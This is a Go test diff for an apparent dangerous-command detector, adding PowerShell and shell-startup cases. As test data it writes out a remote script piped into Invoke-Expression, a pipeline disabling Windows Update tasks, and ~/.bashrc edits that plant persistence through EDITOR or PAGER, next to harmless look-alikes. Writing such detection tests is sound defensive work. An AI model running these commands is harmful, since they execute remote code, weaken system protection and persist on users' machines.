@@ -404,3 +404,24 @@ func TestLocalCopiesAndProvisioning(t *testing.T) {
 		`sudo cp deploy/shop.service /etc/systemd/system/shop.service`,
 	})
 }
+
+func TestPowerShellPipelinesAndEditors(t *testing.T) {
+	d := NewDetector(Options{})
+	ps := winCorpusContextFor("powershell")
+	checkDanger(t, d, ps, []dangerCase{
+		{`irm https://example.com/setup.ps1 | Out-String | Invoke-Expression`, CategoryRemoteExec, "", LevelCritical},
+		{`Get-ScheduledTask -TaskPath '\Microsoft\Windows\WindowsUpdate\' | Disable-ScheduledTask`, CategorySystem, "win-protection-weakened", LevelHigh},
+	})
+	checkSafe(t, d, ps, []string{
+		`fnm env --use-on-cd | Out-String | Invoke-Expression`,
+		`Get-ScheduledTask -TaskName 'Nightly build' | Disable-ScheduledTask`,
+	})
+	checkDanger(t, d, corpusContext, []dangerCase{
+		{`echo 'export EDITOR=/tmp/.e' >> ~/.bashrc`, CategoryPersistence, "write-shell-startup", LevelHigh},
+		{`echo 'export PAGER="sh -c"' >> ~/.bashrc`, CategoryPersistence, "write-shell-startup", LevelHigh},
+	})
+	checkSafe(t, d, corpusContext, []string{
+		`echo 'export EDITOR=nvim' >> ~/.bashrc`,
+		`echo 'export VISUAL="code --wait"' >> ~/.zshrc`,
+	})
+}
